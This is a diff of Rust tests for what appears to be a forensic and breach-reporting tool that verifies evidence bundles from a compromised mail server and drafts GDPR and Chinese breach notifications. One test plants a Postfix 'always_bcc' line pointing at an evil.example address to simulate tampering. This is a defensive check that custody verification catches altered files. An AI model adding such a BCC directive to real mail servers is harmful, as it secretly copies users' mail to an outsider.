@@ -46,7 +46,7 @@ fn sample_report_lists_every_finding_its_steps_and_every_planted_line() {
             .filter_map(Value::as_str)
             .collect();
         assert!(!steps.is_empty(), "{}", e["title"]);
-        for id in e["remediation"].as_array().unwrap() {
+        for id in e["finding"]["remediation"].as_array().unwrap() {
             assert!(
                 steps.contains(&id.as_str().unwrap()),
                 "{} lacks {id}",
@@ -129,7 +129,7 @@ fn sample_report_lists_every_finding_its_steps_and_every_planted_line() {
         entries
             .iter()
             .filter(|e| {
-                let at = e["first_seen"].as_str().unwrap();
+                let at = e["finding"]["first_seen"].as_str().unwrap();
                 ("2026-03-01".."2026-03-06").contains(&at)
             })
             .count(),
@@ -168,6 +168,58 @@ fn sample_report_in_chinese() {
     // Step texts in Chinese, the never-by-mail rule kept.
     assert!(md.contains("带外"));
     assert!(md.contains("绝不要通过被盗邮箱发送"));
+    // Every finding's heading and summary are Chinese (the English line kept as 原文), and so
+    // are the severities, the duties table and the drafts.
+    let cjk = |s: &str| s.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c));
+    let entries = r["findings"].as_array().unwrap();
+    for e in entries {
+        let title = e["title"].as_str().unwrap();
+        assert!(cjk(title), "{title}");
+        assert!(e["summary"].as_str().unwrap().contains("原文："));
+    }
+    let headings: Vec<&str> = md.lines().filter(|l| l.starts_with("#### F")).collect();
+    assert_eq!(headings.len(), entries.len());
+    for h in headings {
+        assert!(
+            ["严重", "高危", "中危", "低危", "提示"]
+                .iter()
+                .any(|s| h.ends_with(s)),
+            "{h}"
+        );
+    }
+    for s in [
+        "## 证据与保管",
+        "| 法规 | 通报事项 | 是否适用 |",
+        "#### 通报草稿",
+        "| 事项 | 内容 | 来源 |",
+        "待判断",
+    ] {
+        assert!(md.contains(s), "{s}");
+    }
+    for d in r["drafts"].as_array().unwrap() {
+        assert_eq!(d["lang"], "zh", "{}", d["regime"]);
+    }
+    // Nothing but evidence and commands is left in English: no line reads as an English
+    // sentence (three of its function words) outside quoted originals and commands.
+    let english: Vec<&str> = md
+        .lines()
+        .filter(|l| !l.contains("原文") && !l.contains('`') && !l.contains("采集记录"))
+        .filter(|l| {
+            let words: std::collections::BTreeSet<&str> = l
+                .split_whitespace()
+                .map(|w| w.trim_matches(|c: char| ",;:().*".contains(c)))
+                .collect();
+            [
+                "the", "and", "of", "to", "from", "with", "for", "was", "were", "is", "are", "not",
+                "by", "that", "this", "be", "its", "at", "on", "or",
+            ]
+            .iter()
+            .filter(|w| words.contains(*w))
+            .count()
+                >= 3
+        })
+        .collect();
+    assert!(english.is_empty(), "{english:#?}");
 }
 
 /// Chromium, when this machine has it (`.ci/run` installs Debian's `chromium`).
@@ -276,4 +328,194 @@ categories = ["mail content"]
     let bad = report_with(&out, &["--case", case.to_str().unwrap()]);
     assert_ne!(bad.code, 0);
     assert!(bad.stderr.contains("unknown sector"), "{}", bad.stderr);
+}
+
+/// Runs `report` on `input` into `dir` with `extra` options; the report's JSON and Markdown.
+fn report_on(input: &std::path::Path, dir: &std::path::Path, extra: &[&str]) -> (String, Value) {
+    let mut args = vec![
+        "report",
+        input.to_str().unwrap(),
+        "--out",
+        dir.to_str().unwrap(),
+    ];
+    args.extend_from_slice(extra);
+    let o = run(&args);
+    assert!(o.code == 0 || o.code == 1, "{}", o.stderr);
+    let md = std::fs::read_to_string(dir.join("report.md")).unwrap();
+    let json = serde_json::from_slice(&std::fs::read(dir.join("report.json")).unwrap()).unwrap();
+    (md, json)
+}
+
+#[test]
+fn report_on_a_bundle_gives_its_hash_verification_custody_and_what_was_not_collected() {
+    let t = tempfile::tempdir().unwrap();
+    // A zip bundle: its hash (as the sidecar has it), verified intact, who collected it.
+    let zip = t.path().join("b.zip");
+    util::collect(&util::sample(), &zip);
+    let sidecar = std::fs::read_to_string(t.path().join("b.zip.sha256")).unwrap();
+    let sha = sidecar.split_whitespace().next().unwrap();
+    let (md, r) = report_on(&zip, &t.path().join("r1"), &[]);
+    let b = &r["custody"][0]["bundle"];
+    assert_eq!(b["sha256"], sha);
+    assert_eq!(b["sidecar_found"], true);
+    assert!(b["problems"].as_array().unwrap().is_empty(), "{b}");
+    assert_eq!(b["custody"]["examiner"], "test");
+    for line in [
+        format!("bundle sha256 {sha} (zip; checked against the sidecar)"),
+        "verification: intact".to_string(),
+        "case id: T-1".to_string(),
+        "examiner: test".to_string(),
+        "host: mx1".to_string(),
+        "not collected: nothing".to_string(),
+        "local times in the logs read as Asia/Shanghai (bundle custody)".to_string(),
+    ] {
+        assert!(md.contains(&line), "{line}");
+    }
+    // The Chinese incident report's scene-protection item cites the verified bundle.
+    let cn = r["drafts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["regime"] == "cn_measures")
+        .unwrap();
+    let scene = cn["fields"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["label"] == "（七）现场保护情况")
+        .unwrap();
+    assert!(
+        scene["value"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("{sha}（校验完好）")),
+        "{scene}"
+    );
+
+    // A folder bundle with files too large to take and one altered afterwards: the report
+    // names what was not collected and why, and that verification failed, on which file.
+    let dir = t.path().join("d");
+    let o = util::collect_with(&util::sample(), &dir, &["--max-file-size", "4096"]);
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    let main_cf = dir.join("files/etc/postfix/main.cf");
+    let mut text = std::fs::read(&main_cf).unwrap();
+    text.extend_from_slice(b"always_bcc = x@evil.example\n");
+    std::fs::write(&main_cf, text).unwrap();
+    let (md, r) = report_on(&dir, &t.path().join("r2"), &[]);
+    let b = &r["custody"][0]["bundle"];
+    let total = b["not_collected_total"].as_u64().unwrap();
+    assert!(total > 0, "{b}");
+    let first = &b["not_collected"][0];
+    assert_eq!(first["outcome"], "too_large", "{first}");
+    assert!(md.contains(&format!(
+        "not collected: {total} existing path(s) were not copied:"
+    )));
+    assert!(md.contains(&format!(
+        "{} — too\\_large",
+        first["source"].as_str().unwrap()
+    )));
+    assert!(md.contains("verification: "), "{md}");
+    assert!(
+        md.contains("altered: files/etc/postfix/main.cf"),
+        "the altered file is named"
+    );
+}
+
+#[test]
+fn drafts_label_every_field_by_source_and_chinese_regimes_are_in_chinese() {
+    let t = tempfile::tempdir().unwrap();
+    let case = t.path().join("case.toml");
+    std::fs::write(
+        &case,
+        "[organisation]\nname = \"Oceanlab Research Centre\"\ncountries = [\"CN\", \"DE\"]\ncontact = \"soc@oceanlab.example.org\"\n[data]\ncategories = [\"mail content\", \"account credentials\"]\n",
+    )
+    .unwrap();
+    let out = t.path().join("r");
+    let o = report_with(&out, &["--case", case.to_str().unwrap()]);
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    let r: Value =
+        serde_json::from_slice(&std::fs::read(out.join("report.json")).unwrap()).unwrap();
+    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
+    let ids: Vec<&str> = r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["id"].as_str().unwrap())
+        .collect();
+    let drafts = r["drafts"].as_array().unwrap();
+    let regimes: Vec<&str> = drafts
+        .iter()
+        .map(|d| d["regime"].as_str().unwrap())
+        .collect();
+    // No draft for what does not apply (no UK, not a public company, no PHI, no Californians).
+    assert_eq!(regimes, ["gdpr33", "gdpr34", "pipl57", "cn_measures"]);
+    for d in drafts {
+        for f in d["fields"].as_array().unwrap() {
+            assert!(!f["value"].as_str().unwrap().is_empty(), "{f}");
+            let source = f["source"].as_str().unwrap();
+            assert!(["evidence", "case", "supply"].contains(&source), "{f}");
+            for id in f["refs"].as_array().unwrap() {
+                assert!(ids.contains(&id.as_str().unwrap()), "{id} is no finding");
+            }
+        }
+        let zh = d["lang"] == "zh";
+        assert_eq!(
+            zh,
+            ["pipl57", "cn_measures"].contains(&d["regime"].as_str().unwrap())
+        );
+    }
+    let field = |regime: &str, label: &str| -> Value {
+        drafts.iter().find(|d| d["regime"] == regime).unwrap()["fields"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["label"].as_str().unwrap().contains(label))
+            .unwrap_or_else(|| panic!("{regime} has no {label}"))
+            .clone()
+    };
+    // From the case file.
+    let controller = field("gdpr33", "controller");
+    assert_eq!(controller["source"], "case");
+    assert_eq!(controller["value"], "Oceanlab Research Centre");
+    assert_eq!(
+        field("pipl57", "信息种类")["value"],
+        "mail content, account credentials"
+    );
+    // From evidence, citing the takeover finding: the stolen account and how.
+    let takeover = r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["finding"]["rule"] == "auth.compromised_account")
+        .unwrap()["id"]
+        .clone();
+    let cause = field("pipl57", "原因");
+    assert_eq!(cause["source"], "evidence");
+    assert!(
+        cause["value"].as_str().unwrap().contains("登录成功"),
+        "{cause}"
+    );
+    assert!(cause["refs"].as_array().unwrap().contains(&takeover));
+    let nature = field("gdpr33", "nature of the breach");
+    assert!(
+        nature["value"].as_str().unwrap().contains("liwei"),
+        "{nature}"
+    );
+    // To be supplied: the legal judgements only the responder can make.
+    assert_eq!(field("gdpr33", "likely consequences")["source"], "supply");
+    assert_eq!(field("cn_measures", "事件级别")["source"], "supply");
+    // Notices to people never go to the stolen mailbox.
+    for (regime, label) in [("gdpr34", "channel"), ("pipl57", "通知渠道")] {
+        let ch = field(regime, label);
+        assert!(ch["value"].as_str().unwrap().contains("liwei"), "{ch}");
+        assert!(
+            ch["value"].as_str().unwrap().starts_with("never")
+                || ch["value"].as_str().unwrap().starts_with("不得"),
+            "{ch}"
+        );
+    }
+    // The Markdown shows each label: source with its findings.
+    assert!(md.contains("| controller | Oceanlab Research Centre | *from the case file* |"));
+    assert!(md.contains("| *来自证据*: "));
+    assert!(md.contains("*待补充*"));
 }
